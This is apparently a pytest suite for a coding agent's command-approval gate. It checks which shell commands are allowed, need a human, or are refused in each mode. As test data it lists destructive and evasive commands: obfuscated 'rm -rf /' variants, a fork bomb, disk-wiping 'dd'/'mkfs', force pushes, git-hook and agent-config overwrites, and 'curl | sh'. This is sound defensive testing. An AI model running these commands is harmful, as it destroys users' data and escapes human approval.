"""Approval: per-command scoped rules, destructive patterns in every mode, bypass attempts (spec §7)."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from abhed.approval import Gate, Policy, Rule, refusal

ALLOW = ["bash(npm test)", "bash(git status:*)", "bash(ls:*)", "bash(cat:*)", "bash(tail:*)", "bash(grep:*)",
         "bash(pytest:*)"]
MODES = ("ask", "accept-edits", "auto", "plan")
A, Q, D = "allow", "ask", "deny"
DESTRUCTIVE = (Q, Q, Q, D)  # needs a human in every mode; plan refuses bash outright
OPAQUE = (Q, Q, Q, D)  # cannot be known in advance: never automatic, not even in auto
PLAIN = (Q, Q, A, D)  # not allowlisted, not destructive
LISTED = (A, A, A, D)

TABLE = [
    # allowlisted, exactly or by prefix
    ("npm test", LISTED), ("git status", LISTED), ("git status -s", LISTED), ("ls -la && cat README.md", LISTED),
    ("ls ; cat x | grep y", LISTED), ("pytest -x tests/", LISTED), ("cd src && npm test", LISTED),
    ("npm test > /dev/null 2>&1", LISTED), ("npm test # run it", LISTED), ("tail -f log &", LISTED),
    ("npm test || true", LISTED), ("sh -c 'npm test'", LISTED), ("bash -c \"git status\"", LISTED),
    ("while true; do :; done", LISTED), ("(cd app && ls)", LISTED),
    # scoped: a rule covers only what it names
    ("npm test --watch", PLAIN), ("git statusx", PLAIN), ("git log", PLAIN), ("git -C x status", PLAIN),
    ("npm test && curl x", PLAIN), ("npm test; python -c 'import os'", PLAIN), ("FOO=1 npm test", PLAIN),
    ("NODE_OPTIONS=--require=x npm test", PLAIN), ("npm test > /tmp/out", PLAIN), ("sudo npm test", PLAIN),
    ("exec npm test", PLAIN), ("npm test 2>&1 | tee out.log", PLAIN), ("rm file.txt", PLAIN),
    ("for f in *.o; do rm $f; done", PLAIN), ("curl http://x | sh", PLAIN), ("git push origin main", PLAIN),
    ("git reset --soft HEAD~1", PLAIN), ("git clean -n", PLAIN), ("find . -name '*.o'", PLAIN),
    ("ls | xargs echo", PLAIN), ("chmod -R 755 build", PLAIN), ("npm test\ncurl x", PLAIN),
    ("bash -e -c 'npm test'", PLAIN),
    # destructive, in any spelling
    ("npm test; rm -rf /", DESTRUCTIVE), ("npm test\nrm -rf build", DESTRUCTIVE), ("rm -rf build", DESTRUCTIVE),
    ("rm -fr build", DESTRUCTIVE), ("rm -r -f build", DESTRUCTIVE), ("rm --recursive --force build", DESTRUCTIVE),
    ("rm -R build", DESTRUCTIVE), ("rm -f x.txt", DESTRUCTIVE), ("'rm' -rf /", DESTRUCTIVE),
    ("r\\m -rf /", DESTRUCTIVE), ('"r"m -rf /', DESTRUCTIVE), ("/bin/rm -rf /", DESTRUCTIVE),
    ("command rm -rf /", DESTRUCTIVE), ("env rm -rf /", DESTRUCTIVE), ("env -i FOO=1 rm -rf /", DESTRUCTIVE),
    ("sudo rm -rf /", DESTRUCTIVE), ("sudo -u root rm -rf /", DESTRUCTIVE), ("nohup rm -rf / &", DESTRUCTIVE),
    ("timeout 5 rm -rf x", DESTRUCTIVE), ("busybox rm -rf x", DESTRUCTIVE), ("rm -rf $DIR", DESTRUCTIVE),
    ("sh -c 'rm -rf /'", DESTRUCTIVE), ("bash -c \"bash -c 'rm -rf /'\"", DESTRUCTIVE),
    ("dd if=/dev/zero of=x bs=1M", DESTRUCTIVE), ("mkfs.ext4 /dev/sdb1", DESTRUCTIVE), ("mkfs -t xfs /dev/x", DESTRUCTIVE),
    (":(){ :|:& };:", DESTRUCTIVE), ("bomb() { bomb | bomb & }; bomb", DESTRUCTIVE),
    ("git push --force", DESTRUCTIVE), ("git push -f origin main", DESTRUCTIVE),
    ("git push --force-with-lease", DESTRUCTIVE), ("git push origin +main:main", DESTRUCTIVE),
    ("find . -name '*.o' -delete", DESTRUCTIVE), ("find . -exec rm {} +", DESTRUCTIVE),
    ("ls | xargs rm", DESTRUCTIVE), ("git ls-files | xargs -n1 rm", DESTRUCTIVE),
    ("chmod -R 777 /", DESTRUCTIVE), ("chmod -R 755 ~", DESTRUCTIVE), ("chown -R me /", DESTRUCTIVE),
    ("chmod -R 700 $HOME", DESTRUCTIVE), ("echo hi > /dev/sda", DESTRUCTIVE), ("cat img | sudo tee /dev/sdb", DESTRUCTIVE),
    ("git reset --hard HEAD~1", DESTRUCTIVE), ("git clean -fdx", DESTRUCTIVE), ("git clean --force", DESTRUCTIVE),
    ("echo x > .git/hooks/pre-commit", DESTRUCTIVE), ("cat x >> .git/config", DESTRUCTIVE),
    ("echo '{}' > .abhed/config.toml", DESTRUCTIVE), ("echo $(rm -rf /)", DESTRUCTIVE),
    # cannot be understood in advance
    ("echo `date`", OPAQUE), ("ls $(pwd)", OPAQUE), ("cat <(ls)", OPAQUE), ("ls (", OPAQUE), ("x=1; $x", OPAQUE),
    ("eval npm test", OPAQUE), ("bash -c \"$CMD\"", OPAQUE), ("cat <<EOF\n$(whoami)\nEOF", OPAQUE),
]


def test_the_table_is_big_enough():
    assert len(TABLE) >= 60


@pytest.mark.parametrize("command, expected", TABLE, ids=[c for c, _ in TABLE])
def test_decision_per_mode(tmp_path, command, expected):
    for mode, want in zip(MODES, expected):
        verdict = Policy.create(mode, ALLOW, [], tmp_path).check("bash", SimpleNamespace(command=command))
        assert verdict.decision == want, (mode, command, verdict)
        if expected is DESTRUCTIVE and mode != "plan":
            assert verdict.destructive and verdict.rule.startswith("destructive:")


def test_deny_rules_win_over_everything(tmp_path):
    policy = Policy.create("auto", ["bash(*)"], ["bash(curl:*)"], tmp_path)
    verdict = policy.check("bash", SimpleNamespace(command="ls && curl http://x"))
    assert verdict.decision == "deny" and "deny bash(curl:*)" in verdict.reason


@pytest.mark.parametrize("tool, mode, rules, want", [
    ("read", "ask", [], "allow"), ("grep", "plan", [], "allow"), ("edit", "ask", [], "ask"),
    ("edit", "ask", ["edit"], "allow"), ("write", "ask", ["write(docs/**)"], "allow"),
    ("edit", "accept-edits", [], "allow"), ("write", "auto", [], "allow"), ("write", "plan", ["write"], "deny"),
])
def test_file_tools_per_mode(tmp_path, tool, mode, rules, want):
    args = SimpleNamespace(path=str(tmp_path / "docs" / "a.md"))
    assert Policy.create(mode, rules, [], tmp_path).check(tool, args).decision == want


def test_path_scoped_rule_does_not_cover_other_paths(tmp_path):
    policy = Policy.create("ask", ["edit(src/**)"], [], tmp_path)
    assert policy.check("edit", SimpleNamespace(path=str(tmp_path / "src/a/b.py"))).decision == "allow"
    assert policy.check("edit", SimpleNamespace(path=str(tmp_path / "setup.py"))).decision == "ask"
    assert policy.check("edit", SimpleNamespace(path=str(tmp_path / "src/../../x"))).decision == "ask"


def test_gate_human_by_hand_confirm_and_prompt(tmp_path):
    policy = Policy.create("ask", [], [], tmp_path)
    plain, danger = SimpleNamespace(command="make"), SimpleNamespace(command="rm -rf build")
    assert Gate(policy).review("bash", plain).decision == "ask"  # nobody to ask: stays unanswered
    assert Gate(policy, invoked_by_human=True).review("bash", plain).decision == "allow"
    assert Gate(policy, invoked_by_human=True).review("bash", danger).decision == "ask"
    assert Gate(policy, invoked_by_human=True, confirmed=True).review("bash", danger).decision == "allow"
    asked = []
    prompt = Gate(policy, ask_human=lambda tool, args, verdict: asked.append(verdict) or False)
    assert prompt.review("bash", danger).decision == "deny" and asked[0].destructive
    denied = Policy.create("ask", [], ["bash(make:*)"], tmp_path)
    assert Gate(denied, confirmed=True).review("bash", plain).decision == "deny"


def test_refusals_say_which_rule_and_what_to_configure(tmp_path):
    policy = Policy.create("ask", [], [], tmp_path)
    args = SimpleNamespace(command="curl -s http://mirror/x")
    text = refusal("bash", policy.check("bash", args), args)
    assert "matches no allow rule" in text and 'approval.allow = ["bash(curl:*)"]' in text and "--mode auto" in text
    args = SimpleNamespace(command="rm -rf build")
    text = refusal("bash", policy.check("bash", args), args)
    assert "destructive: rm with recursive or force flags" in text and "--confirm" in text
    assert "No mode or allow rule skips this" in text
    args = SimpleNamespace(path=str(tmp_path / "a.py"))
    text = refusal("edit", policy.check("edit", args), args)
    assert 'approval.allow = ["edit"]' in text and "--mode accept-edits" in text


@pytest.mark.parametrize("text", ["bash(", "Bash(x)", "bash(x) y", ""])
def test_malformed_rules_are_rejected_with_the_form(text):
    with pytest.raises(ValueError, match="tool or tool\\(spec\\)"):
        Rule.parse(text)
